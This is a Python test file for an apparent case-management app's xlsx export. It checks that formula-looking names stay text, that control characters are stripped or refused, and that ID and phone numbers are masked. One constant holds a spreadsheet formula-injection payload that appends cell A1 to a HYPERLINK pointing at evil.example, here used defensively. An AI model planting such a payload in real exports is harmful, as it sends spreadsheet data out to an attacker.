"""Finding 5: the xlsx export writes every text as text, a formula-looking name included, and a control character
stored in a name no longer breaks the office's export."""
from io import BytesIO

import sqlalchemy as sa
from openpyxl import load_workbook

from caseflow.cases.models import Party

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


def _rows(response):
    assert response.status_code == 200
    ws = load_workbook(BytesIO(response.data)).active
    return [[cell for cell in row] for row in ws.iter_rows(min_row=2)]  # row 1 is the title (issue 9)


def test_a_formula_in_a_name_stays_text(api, browser, make, office_team):
    body = make.application(office_team["agency"])
    body["applicants"][0]["name"] = FORMULA
    assert api(office_team["clerk"]).post("/api/v1/cases", json=body).status_code == 201
    rows = _rows(browser(office_team["clerk"]).get("/cases/export.xlsx"))
    assert not [cell.coordinate for row in rows for cell in row if cell.data_type == "f"]
    applicants = [row[2] for row in rows[1:]]
    assert [(c.value, c.data_type, c.quotePrefix) for c in applicants] == [(FORMULA, "s", True)]


def test_a_control_character_stored_earlier_does_not_break_the_export(team_case, browser, office_team, db):
    nul = "\x00" if db.session.get_bind().dialect.name == "sqlite" else ""  # PostgreSQL never stores a NUL
    db.session.execute(sa.update(Party).values(name=f"张{nul}三\x07"))  # stored before input was checked
    db.session.commit()
    rows = _rows(browser(office_team["clerk"]).get("/cases/export.xlsx"))
    assert rows[1][2].value == "张三"


def test_control_characters_are_refused_at_input(api, make, office_team):
    body = make.application(office_team["agency"])
    body["applicants"][0]["name"] = "张\x00三"
    refused = api(office_team["clerk"]).post("/api/v1/cases", json=body)
    assert refused.status_code == 422
    assert refused.json["errors"]["json"]["applicants.0.name"] == ["含有不允许的控制字符"]


def test_the_export_shows_identities_masked(registered, browser, office_team):
    _case, applicant = registered
    rows = _rows(browser(office_team["clerk"]).get("/cases/export.xlsx"))
    header = [c.value for c in rows[0]]
    row = {name: cell.value for name, cell in zip(header, rows[1])}
    assert row["申请人证件号码（脱敏）"] == applicant["id_number"][:4] + "*" * 10 + applicant["id_number"][-4:]
    assert row["申请人电话（脱敏）"] == "138****8000"
